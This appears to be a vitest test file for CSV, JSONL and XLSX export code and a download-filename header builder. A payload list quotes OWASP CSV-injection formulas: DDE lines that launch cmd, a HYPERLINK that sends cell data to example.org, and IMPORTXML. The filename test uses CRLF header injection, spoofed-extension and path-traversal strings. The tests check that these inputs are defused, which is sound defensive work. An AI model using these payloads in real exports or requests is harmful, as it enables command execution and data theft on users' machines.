import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { readWorkbook } from '../../../test/support/read-workbook.ts'
import type { Row } from '../../../schema/rows/rows-of.ts'
import { attachment, fileName } from './content-disposition.ts'
import { harmless } from '../../../schema/rows/csv-line.ts'
import { csv } from './csv.ts'
import { jsonl } from './jsonl.ts'
import type { Table } from './lines.ts'
import { columnName, xmlText } from './sheet-xml.ts'
import { sheetName } from './workbook-xml.ts'
import { xlsx } from './xlsx.ts'

async function* from(rows: readonly Row[]): AsyncGenerator<Row> { yield* rows }
const column = (path: string, kind: 'TEXT' | 'NUMBER' | 'BOOLEAN' = 'TEXT') => ({ path, title: `${path} 名`, titleEn: `${path} name`, kind })
const table = (rows: readonly Row[], more: Partial<Table> = {}): Table => ({
  name: '小麦', columns: [column('id'), column('title'), column('count', 'NUMBER'), column('open', 'BOOLEAN'), column('creators.name')], explode: null, titles: 'path', rows: from(rows), ...more,
})
const whole = async (pieces: AsyncIterable<string | Buffer>): Promise<Buffer> => {
  const all: Buffer[] = []
  for await (const piece of pieces) all.push(Buffer.from(piece))
  return Buffer.concat(all)
}
const read = async (rows: readonly Row[], more: Partial<Table> = {}): Promise<string[][]> => parse(await whole(csv(table(rows, more))), { bom: true, relaxColumnCount: false }) as string[][]

const ROWS: Row[] = [
  { id: 'a:1', title: '他说"好",然后\r\n走了, 完', count: '107891', open: true, creators: [{ name: '李禾' }, { name: null }] },
  null,
  { id: 'a:2', title: ' 前后空格 ', count: 3.5, open: false, creators: [] },
]

/** OWASP, CSV injection: the characters, and payloads that were used. */
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1', '=cmd|\'/C calc\'!A0', '=HYPERLINK("http://example.org?x="&A1,"click")', '=IMPORTXML("http://example.org","//a")',
  '-2+3+cmd|\' /C calc\'!D2', '=DDE("cmd";"/C calc";"a")', '=1+1', '+1', '-1+1', '@SUM(1)', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '+86-010-1234', '-20℃保存', '=";=1+1', '=\'";,=1+1', '+', '-', '=', '@',
]

describe('csv', () => {
  it('is read back by another reader, quotes, line ends and blanks included', async () => {
    expect(await read(ROWS)).toEqual([
      ['id', 'title', 'count', 'open', 'creators.name'],
      ['a:1', '他说"好",然后\r\n走了, 完', '107891', 'true', '李禾; '],
      ['', '', '', '', ''],
      ['a:2', ' 前后空格 ', '3.5', 'false', ''],
    ])
    const bytes = await whole(csv(table([])))
    expect(bytes.toString('hex', 0, 3)).toBe('efbbbf')
    expect(bytes.toString('utf8', 3)).toBe('id,title,count,open,creators.name\r\n')
    expect((await read([], { titles: 'zh' }))[0]?.[0]).toBe('id 名')
    expect((await read([], { titles: 'en' }))[0]?.[0]).toBe('id name')
  })

  it.each(FORMULAS)('shows %j and does not compute it', async (payload) => {
    expect(harmless(payload)).toBe(`'${payload}`)
    expect((await read([{ id: payload, title: payload, creators: [{ name: payload }, { name: 'b' }] }]))[1]?.every((cell) => cell === '' || cell.startsWith("'"))).toBe(true)
  })

  it('makes the header harmless too: an alias may be anything, a description also', async () => {
    expect((await read([], { titles: 'zh', columns: [{ path: 'x', title: '=1+1', titleEn: 'x', kind: 'TEXT' }] }))[0]).toEqual(["'=1+1"])
  })

  it('leaves numbers and ordinary texts as they are', () => {
    for (const text of ['-12.5', '0', '-1e-7', '10.1234/ab-c', '小麦-水稻', 'a=b', '2015', "it's", '(=1)']) expect(harmless(text)).toBe(text)
  })

  it('explodes the named list', async () => {
    expect((await read([{ id: 'x', creators: [{ name: 'a' }, { name: 'b' }] }, { id: 'y', creators: [] }], { explode: 'creators' })).slice(1).map((line) => [line[0], line[4]])).toEqual([['x', 'a'], ['x', 'b'], ['y', '']])
  })
})

describe('jsonl', () => {
  it('has one row a line, as it was answered', async () => {
    const lines = (await whole(jsonl(from(ROWS)))).toString().trimEnd().split('\n').map((line) => JSON.parse(line) as unknown)
    expect(lines).toEqual(ROWS)
    expect((await whole(jsonl(from([{ a: '\u2028\n' }])))).toString().split('\n')).toHaveLength(2)
  })
})

describe('xlsx', () => {
  it('is read back with its types: numbers, booleans, texts', async () => {
    const { sheets, names } = readWorkbook(await whole(xlsx(table(ROWS, { titles: 'zh' }))))
    expect(names).toEqual(['小麦'])
    expect(sheets).toEqual([[
      ['id 名', 'title 名', 'count 名', 'open 名', 'creators.name 名'],
      ['a:1', '他说"好",然后\r\n走了, 完', 107891, true, '李禾; '],
      [],
      ['a:2', ' 前后空格 ', 3.5, false],
    ]])
  })

  it('keeps formulas texts, and numbers that would be rounded', async () => {
    const { files, sheets } = readWorkbook(await whole(xlsx(table([...FORMULAS.map((id) => ({ id })), { count: '12345678901234567890' }, { count: '007' }]))))
    expect(sheets[0]?.slice(1, FORMULAS.length + 1).map(([id]) => id)).toEqual(FORMULAS)
    expect(sheets[0]?.slice(-2).map((line) => line[2])).toEqual(['12345678901234567890', '007'])
    expect(files.get('xl/worksheets/sheet1.xml')).not.toContain('<f>')
  })

  it('writes control characters, half surrogates and what looks like an escape so that the file stays valid', async () => {
    const texts = ['a\u0000b\u0008\u001f', '_x0041_', ']]>&<>"', '\ufffe', '𠮷']
    const { sheets } = readWorkbook(await whole(xlsx(table(texts.map((id) => ({ id }))))))
    expect(sheets[0]?.slice(1).map(([id]) => id)).toEqual(texts)
    expect(xmlText('\ud800')).toBe('\ufffd')
  })

  it('goes on in a next sheet where one is full', async () => {
    const { sheets, names } = readWorkbook(await whole(xlsx(table(Array.from({ length: 10 }, (_, n) => ({ id: String(n) })), { name: '含 [特殊] 字符的很长很长很长很长很长很长很长的名称/甲:乙' }), 5)))
    expect(sheets.map((sheet) => sheet.slice(1).map(([id]) => id))).toEqual([['0', '1', '2', '3'], ['4', '5', '6', '7'], ['8', '9']])
    expect(sheets.every((sheet) => sheet[0]?.[0] === 'id')).toBe(true)
    expect(names.every((name) => name.length <= 31 && !/[[\]:*?/\\]/.test(name))).toBe(true)
    expect(new Set(names).size).toBe(3)
    expect(sheetName('', 1)).toBe('Keyuan')
  })

  it('puts what is longer than a cell into cells on the right, says where, and loses nothing', async () => {
    const long = '稻'.repeat(40_000) + '𠮷'.repeat(20_000)
    const { sheets } = readWorkbook(await whole(xlsx(table([{ id: 'x', title: long, creators: [{ name: long }] }, { id: 'y' }]))))
    const line = sheets[0]?.[1] ?? []
    expect(line.every((cell) => String(cell ?? '').length <= 32_767)).toBe(true)
    const note = /…〔续见 (\w+) 列 \/ goes on in column (\w+)〕$/
    const [, first] = note.exec(String(line[1])) ?? []
    expect(first).toBe('F')
    expect(String(line[1]).replace(note, '') + line.slice(5, 7).join('')).toBe(long)
    expect(note.exec(String(line[4]))?.[1]).toBe('H')
    expect(String(line[4]).replace(note, '') + line.slice(7).join('')).toBe(long)
    expect(sheets[0]?.[2]).toEqual(['y'])
  })

  it('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 51, 701, 702, 16_383].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'ZZ', 'AAA', 'XFD'])
  })

  it('fails where its rows fail, and stops reading them where nobody reads it', async () => {
    async function* failing(): AsyncGenerator<Row> {
      yield { id: 'a' }
      throw new Error('the rows fail')
    }
    await expect(whole(xlsx(table([], { rows: failing() })))).rejects.toThrow('the rows fail')
    let closed = false
    async function* endless(): AsyncGenerator<Row> {
      try {
        for (;;) yield { id: 'x'.repeat(1_000) + Math.random() }
      } finally {
        closed = true
      }
    }
    for await (const _piece of xlsx(table([], { rows: endless() }))) break
    await expect.poll(() => closed).toBe(true)
  })
})

describe('attachment', () => {
  it('names Chinese files for all clients, and nothing in a name ends the header', () => {
    expect(attachment('小麦 "2015"', 'csv')).toBe('attachment; filename="__ 2015.csv"; filename*=UTF-8\'\'%E5%B0%8F%E9%BA%A6%202015.csv')
    for (const name of ['a\r\nset-cookie: x=1', 'a"; filename=evil.exe; x="', '\u202egnp.exe', "a'b(c)*%41", '\ud800', '../../etc/passwd', '...', '']) {
      const value = attachment(name, 'csv')
      expect(value).toMatch(/^attachment; filename="[ !#-[\]-~]+\.csv"; filename\*=UTF-8''[\w.~!$&+^`|%-]+\.csv$/)
      expect(fileName(name, 'csv')).not.toMatch(/[/\\"\r\n\u202e]/)
    }
  })
})
